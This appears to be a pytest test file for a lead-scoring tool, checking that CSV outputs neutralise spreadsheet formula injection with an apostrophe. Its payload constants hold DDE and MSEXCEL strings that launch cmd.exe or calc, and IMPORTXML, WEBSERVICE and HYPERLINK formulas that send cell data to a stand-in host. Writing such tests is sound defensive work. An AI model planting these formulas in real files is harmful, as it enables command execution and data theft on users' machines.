"""test_formula_payloads: what a visitor types into a form never runs in a spreadsheet, in whichever file."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator, Sequence
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from tests.running import DAY, Place, files_in, parquet_rows, run

SIGNS = "=+-@\t\r\n\0＝＋－＠"
"""What a spreadsheet takes for the beginning of a formula, or skips before it; the last are full-width."""

BODIES = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://x.test?a="&A1,"click")',
    "SUM(1,2)*3",
    "x",
    "=1",
    "-2+3+cmd|'/C calc'!A0",
)
BEHIND = (
    # behind a separator, a quote or a line end that is part of the cell
    *("a,=1+1", "a;=1+1", "a|=1+1", "a\t=1+1", 'a"=1+1', '",=1+1', '";=1+1', '"\t=1', 'a","=1+1","b', '""=1'),
    *("a\n=1+1", "a\r\n@x", "a\r+1+1x", '"\n=1', ",=1", ";@x", "|-x", "a;＝1"),
    # behind what cannot be seen
    *(" =1+1", "   @x", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1", "\u2060+x", "\u200e-x", "\u3000＝1"),
    # behind an apostrophe already, or what looks like one
    *("'=1+1", "''=1+1", "'@x", "`=1+1", "\u2019=1+1", '"=1+1"'),
)
FORMS = (
    '=DDE("cmd";"/C calc";"x")',
    "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    '=IMPORTXML(CONCAT("http://x.test/?v=",A1),"//a")',
    '=WEBSERVICE("http://x.test")',
    '=IMAGE("http://x.test/p.png")',
    '=HYPERLINK("file://x.test/share";"click")',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+44 20 7946 0958;=1",
    "-1,=2",
    "-1;cmd|x",
    "=\u0661+\u0661",
    '="a\nb"',
    "-",
    "+",
    "=",
    "@",
    "--1",
    "－",
    "＝",
)
PAYLOADS = [*(sign + body for sign in SIGNS for body in BODIES), *BEHIND, *FORMS]

KEPT = ["-5", "+5", "-5.5", "-1,234.56", "-1.234,56", "-12%", "+44 20 7946 0958", "+1 (555) 010-0123"]
KEPT += ["+49/30/1234", "－5", "＋44 20 7946 0958", "5", "a=b", "x@y.test"]
"""Negative numbers, phone numbers and other cells that must stay as they are."""

OUTPUTS = {
    "ranked.csv", "tiers/hot.csv", "tiers/cold.csv", "disqualified.csv", "screened.csv", "nurture.csv",
    "accounts.csv", "set_aside.csv", "unreadable.csv", "events_set_aside.csv", "joined_set_aside.csv",
    "crm_import.csv", "moved.csv", "gone.csv",
}  # fmt: skip
"""Every CSV file that a run can write."""
IDS_TO_THE_LETTER = "crm_import.csv"
"""A CRM would not find its lead under an id with an apostrophe, so ids are not touched in this one."""

ROUTES = {"r": "tiers/hot.csv", "n": "nurture.csv", "d": "disqualified.csv", "s": "screened.csv"}
COLUMNS = ["lead_id", "route", "company", "note", "=visits", "last"]

CONFIG = """
name: payloads
id: lead_id
fields: {visits: {from: "=visits", type: number}}
screen: {spam: [{name: "=sign", when: {route: s}}]}
disqualify: [{name: "@out", when: {route: d}}]
groups:
  "=fit":
    rules:
      - {name: "＝ranked", kind: match, when: {route: r}, points: 15}
      - {name: "+near", kind: match, when: {route: [n, d, s]}, points: 8}
      - {name: "-visits", kind: match, when: {visits: {at_least: 1}}, points: -1}
      - {name: "@seen", kind: count, event: visit, each: 1, cap: 2}
      - {name: "=known firm", kind: match, when: {size: {known: true}}, points: 1}
tiers: [{name: "=hot", min_score: 12}, {name: "@cold"}]
nurture: {tier: "=hot", margin: 10}
accounts: {by: company, combine: max}
events: {lead: lead_id, event: event, time: time}
join: {firms: {on: company, key: firm}}
write_back: {id: Record ID, score: lead_score, tier: lead_tier, reasons: lead_reasons}
checks: {max_rows_set_aside: 9999, max_unreadable_cells: 9999}
"""


@pytest.fixture
def place(tmp_path: Path) -> Place:
    return Place(tmp_path)


def written(rows: Sequence[Sequence[str]], delimiter: str, quote_all: bool = False) -> str:
    """CSV by hand: Python's writer does not quote a lone CR."""
    marks = {delimiter, '"', "\r", "\n"}

    def cell(text: str) -> str:
        return '"' + text.replace('"', '""') + '"' if quote_all or marks & set(text) else text

    return "".join(delimiter.join(map(cell, row)) + "\n" for row in rows)


def payloads(nul: bool = False) -> list[str]:
    """A CSV file with a NUL is refused, so only a Parquet file can bring one."""
    return [payload for payload in PAYLOADS if nul or "\0" not in payload]


def leads(cells: Sequence[str], first: int = 0) -> list[list[str]]:
    """Each text as id and in every column of text, on the way to every file of leads."""
    return [
        [f"{cell}#{first + number}{route}", route, cell, cell, "many" if route == "r" else "5", cell]
        for route in ROUTES
        for number, cell in enumerate(cells)
    ]


def headers(cells: Sequence[str]) -> list[str]:
    """The texts as names of columns, each another one."""
    return [f"{cell} h{number}" for number, cell in enumerate(cells)]


def damaged(cells: Sequence[str], delimiter: str, width: int) -> str:
    """Lines of too many cells that begin with each of the texts."""
    return written([[cell, *["x"] * width] for cell in cells], delimiter)


def full_run(
    place: Place, exports: Sequence[Path], cells: Sequence[str], delimiter: str = ",", head: str = ""
) -> None:
    """A run that writes every file there is. What it must not run stands in logs and tables as well."""
    cells = [cell for cell in cells if "\0" not in cell]  # no CSV file has one
    log = [
        ["lead_id", "event", "time"],
        *([row[0], "visit", DAY] for row in leads(cells)),
        ["x", "visit", "?"],
    ]
    table = [["firm", "size"], *([cell, "9"] for cell in dict.fromkeys(cells))]
    place.write("+log.csv", written(log, delimiter) + damaged(cells, delimiter, 3))
    place.write("@firms.csv", written(table, delimiter) + damaged(cells, delimiter, 2))
    place.write("model.yml", CONFIG + head)
    # Yesterday nobody was hot, and some are no longer there.
    yesterday = [COLUMNS, *leads(cells), *leads(cells, 1000)]
    before = place.write("=yesterday.csv", written(yesterday, ","))
    colder = place.write("colder.yml", CONFIG.replace("min_score: 12", "min_score: 20"))
    run_all(place, [before], colder, "yesterday")
    run_all(place, exports, place.folder / "model.yml", "out", "--previous", place.folder / "yesterday")


def run_all(place: Place, exports: Sequence[Path], config: Path, out: str, *options: object) -> None:
    ended = run(
        "score", *exports, "-c", config, "-o", place.folder / out, "--as-of", DAY, "--events",
        place.folder / "+log.csv", "--join", place.folder / "@firms.csv", "--write-back", *options,
    )  # fmt: skip
    assert ended.code == 0, ended.stderr


def csv_outputs(place: Place, delimiter: str) -> dict[str, list[list[str]]]:
    """Name -> rows with their header, by Python's own reader."""
    return {
        name: rows_in(octets, _delimiter_of(name, delimiter))
        for name, octets in files_in(place.out).items()
        if name.endswith(".csv")
    }


def rows_in(octets: bytes, delimiter: str) -> list[list[str]]:
    text = io.StringIO(octets.decode("utf-8-sig"), newline="")
    return list(csv.reader(text, delimiter=delimiter, strict=True))


def _delimiter_of(name: str, delimiter: str) -> str:
    """Lists of what could not be read and the CRM's import have commas, all else the export's separator."""
    return "," if "set_aside" in name or name in ("unreadable.csv", IDS_TO_THE_LETTER) else delimiter


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def live(name: str, rows: list[list[str]]) -> Iterator[str]:
    """Cells that a spreadsheet would run: those that begin with a sign and are nothing to be kept."""
    for row in rows:
        for column, cell in enumerate(row):
            to_the_letter = name == IDS_TO_THE_LETTER and column == 0
            if cell and cell[0] in SIGNS and not (is_number(cell) or cell in KEPT or to_the_letter):
                yield cell


def assert_nothing_is_live(place: Place, delimiter: str = ",") -> dict[str, list[list[str]]]:
    outputs = csv_outputs(place, delimiter)
    assert set(outputs) == OUTPUTS
    assert {name: list(live(name, rows)) for name, rows in outputs.items()} == {name: [] for name in OUTPUTS}
    assert all(len(rows) > 1 for rows in outputs.values())
    return outputs


def disarmed(cell: str) -> str:
    return f"'{cell}" if cell[:1] and cell[0] in SIGNS and cell not in KEPT else cell


def assert_cells_are_the_exports(outputs: dict[str, list[list[str]]], cells: Sequence[str]) -> None:
    """In every file of leads the cells are those of the export, with an apostrophe where one is needed."""
    for route, name in ROUTES.items():
        found = of_columns(outputs[name], "lead_id", "company", "note", "last")
        rows = [row for row in leads(cells) if row[1] == route]
        expected = [[disarmed(row[place]) for place in (0, 2, 3, 5)] for row in rows]
        assert sorted(found) == sorted(expected)


def of_columns(rows: list[list[str]], *names: str) -> list[list[str]]:
    header, *rest = rows
    places = [header.index(disarmed(name) if name not in header else name) for name in names]
    return [[row[place] for place in places] for row in rest]


def test_there_are_more_than_a_hundred_payloads_and_each_is_another_one() -> None:
    assert len(PAYLOADS) >= 120
    assert len(set(PAYLOADS)) == len(PAYLOADS)
    assert {payload[0] for payload in PAYLOADS} >= set(SIGNS)


@pytest.mark.parametrize("quote_all", [False, True], ids=["quoted where needed", "all quoted"])
@pytest.mark.parametrize("delimiter", [",", ";", "\t", "|"], ids=repr)
def test_no_cell_of_any_csv_output_is_live(place: Place, delimiter: str, quote_all: bool) -> None:
    cells = [*payloads(), *KEPT]
    rows = written([COLUMNS, *leads(cells)], delimiter, quote_all)
    export = place.write("=leads.csv", rows + damaged(cells, delimiter, len(COLUMNS)))
    full_run(place, [export], cells)
    outputs = assert_nothing_is_live(place, delimiter)
    assert_cells_are_the_exports(outputs, cells)
    assert place.summary()["disarmed"] == added_apostrophes(outputs)


def added_apostrophes(outputs: dict[str, list[list[str]]]) -> int:
    """Cells of leads that begin with an apostrophe before a sign, but for those of the export that did."""
    files = (outputs[name][1:] for name in ("ranked.csv", "disqualified.csv", "screened.csv"))
    cells = [cell for rows in files for row in rows for cell in row]
    own = [cell for row in leads([*payloads(), *KEPT]) for cell in row]
    return sum(map(is_guarded, cells)) - sum(map(is_guarded, own))


def is_guarded(cell: str) -> bool:
    return cell[:1] == "'" and cell[1:2] != "" and cell[1] in SIGNS


def test_ids_for_the_crm_stay_to_the_letter(place: Place) -> None:
    cells = [*payloads(), *KEPT]
    export = place.write("=leads.csv", written([COLUMNS, *leads(cells)], ",") + damaged(cells, ",", 9))
    full_run(place, [export], cells)
    rows = csv_outputs(place, ",")[IDS_TO_THE_LETTER]
    hot = [row[0] for row in leads(cells) if row[1] == "r"]  # the others are as they were yesterday
    ids = [id_.removeprefix("'") if is_guarded(id_) else id_ for id_ in hot]
    assert sorted(row[0] for row in rows[1:]) == sorted(ids)


def test_a_live_header_is_disarmed_in_every_file(place: Place) -> None:
    cells = [*payloads(), *KEPT]
    extra = headers([cell for cell in cells if not set(cell) & set("\r\n")])
    rows = [[*COLUMNS, *extra], *([*row, *["x"] * len(extra)] for row in leads(["a", "=1"]))]
    export = place.write("=leads.csv", written(rows, ",") + damaged(["=1"], ",", 300))
    full_run(place, [export], ["a", "=1"])
    outputs = assert_nothing_is_live(place)
    for name in ("ranked.csv", *ROUTES.values()):
        assert name == "nurture.csv" or outputs[name][0][-len(extra) :] == [disarmed(each) for each in extra]


def test_names_of_files_and_columns_that_are_told_are_disarmed(place: Place) -> None:
    """Of several files each row says which one it came from."""
    cells = ["a", "=1", "-5"]
    names = ["=first.csv", "@second.csv", "-third.csv", "＋fourth.csv"]
    exports = [
        place.write(name, written([COLUMNS, *leads(cells, 10 * number)], ",") + damaged(cells, ",", 9))
        for number, name in enumerate(names)
    ]
    full_run(place, exports, cells)
    outputs = assert_nothing_is_live(place)
    files = {f"'{name}" for name in names}
    assert {row[0] for row in of_columns(outputs["ranked.csv"], "file")} == files
    assert {tuple(row) for row in of_columns(outputs["unreadable.csv"], "file", "column")} == {
        (file, "'=visits") for file in files
    }
    assert {row[0] for row in of_columns(outputs["set_aside.csv"], "file")} == files


def parquet_export(place: Place, cells: Sequence[str], extra: Sequence[str] = ()) -> Path:
    """All payloads, those with a NUL and headers of several lines as well."""
    rows = leads(cells)
    columns = [*map(list, zip(*rows, strict=True)), *([["x"] * len(rows)] * len(extra))]
    path = place.folder / "=leads.parquet"
    pq.write_table(pa.table(columns, [*COLUMNS, *extra]), path)
    return path


def test_no_cell_made_of_a_parquet_export_is_live_and_parquet_needs_no_guard(place: Place) -> None:
    cells = [*payloads(nul=True), *KEPT]
    extra = headers(cells)
    export = parquet_export(place, cells, extra)
    full_run(place, [export], cells, head="output: {formats: [csv, parquet]}\n")
    outputs = csv_outputs(place, ",")
    assert set(outputs) == OUTPUTS
    assert {name: list(live(name, rows)) for name, rows in outputs.items()} == {name: [] for name in OUTPUTS}
    assert_cells_are_the_exports(outputs, cells)
    assert outputs["ranked.csv"][0][-len(extra) :] == [disarmed(name) for name in extra]
    rows = parquet_rows(place.out / "ranked.parquet")
    own = {row[0]: row for row in leads(cells) if row[1] in "rn"}
    assert {row["lead_id"]: [row[name] for name in COLUMNS] for row in rows} == own
    assert list(rows[0])[-len(extra) :] == extra


def test_without_the_guard_cells_stay_and_the_manifest_tells_the_difference(place: Place) -> None:
    cells = [*payloads(), *KEPT]
    export = place.write("=leads.csv", written([COLUMNS, *leads(cells)], ","))
    digests = []
    for setting in ("true", "false"):
        full_run(place, [export], cells, head=f"output: {{formula_guard: {setting}}}\n")
        digests.append(place.manifest()["config"]["model_sha256"])
    assert digests[0] != digests[1]
    assert place.summary()["disarmed"] == 0
    found = of_columns(csv_outputs(place, ",")["ranked.csv"], *COLUMNS)
    assert sorted(found) == sorted(row for row in leads(cells) if row[1] in "rn")


def test_what_was_disarmed_is_read_as_it_was_and_is_not_disarmed_again(place: Place) -> None:
    cells = [*payloads(), *KEPT]
    export = place.write("=leads.csv", written([COLUMNS, *leads(cells)], ","))
    full_run(place, [export], cells)
    first, scores = csv_outputs(place, ","), {}
    for again in (False, True):
        rows = csv_outputs(place, ",")["ranked.csv"]
        scores[again] = of_columns(rows, "rank", "score", "tier", *COLUMNS[:1], *COLUMNS[2:])
        export = place.write("=again.csv", written([COLUMNS, *of_columns(rows, *COLUMNS)], ","))
        full_run(place, [export], cells)
    assert scores[True] == scores[False]
    assert csv_outputs(place, ",")["ranked.csv"] == first["ranked.csv"]
    assert place.summary()["disarmed"] < len(first["ranked.csv"]) * 5
